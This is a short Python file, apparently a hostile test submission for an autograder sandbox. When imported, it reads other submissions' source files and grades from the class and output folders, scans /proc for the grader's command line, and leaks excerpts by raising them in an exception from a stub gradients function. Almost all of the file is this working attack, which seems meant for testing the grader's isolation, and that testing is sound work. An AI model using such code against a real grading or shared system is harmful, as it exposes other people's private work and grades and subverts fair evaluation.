"""Hostile (attack c): reads the other submissions' sources and grades (the class folder,
the output folder, the grader's command line in /proc) and prints what it found into
its own visible feedback."""
import json
from pathlib import Path

TARGETS = json.loads(Path(__file__).with_name("targets.json").read_text())
HERE = Path(__file__).resolve().parent
REPORT = {"attack": "c", "read": [], "excerpts": []}


def _read(path: Path):
    if HERE in path.parents:                  # its own folder: its own files
        return
    try:
        text = path.read_text(errors="replace")
    except OSError:
        return
    REPORT["read"].append(str(path))
    REPORT["excerpts"].append(text[:200])


for folder in (TARGETS["class"], TARGETS["out"]):
    try:
        for path in sorted(Path(folder).rglob("*")):
            if path.is_file():
                _read(path)
    except OSError:
        pass
for proc in Path("/proc").iterdir():
    if proc.name.isdigit():
        try:
            command = (proc / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
        except OSError:
            continue
        if TARGETS["class"] in command or TARGETS["out"] in command:      # the grader's command line
            REPORT["read"].append(f"/proc/{proc.name}/cmdline")
            REPORT["excerpts"].append(command[:200])
REPORT["read"] = REPORT["read"][:20]
REPORT["excerpts"] = REPORT["excerpts"][:5]


def gradients(x, t, w):
    raise RuntimeError("REPORT " + json.dumps(REPORT, sort_keys=True))
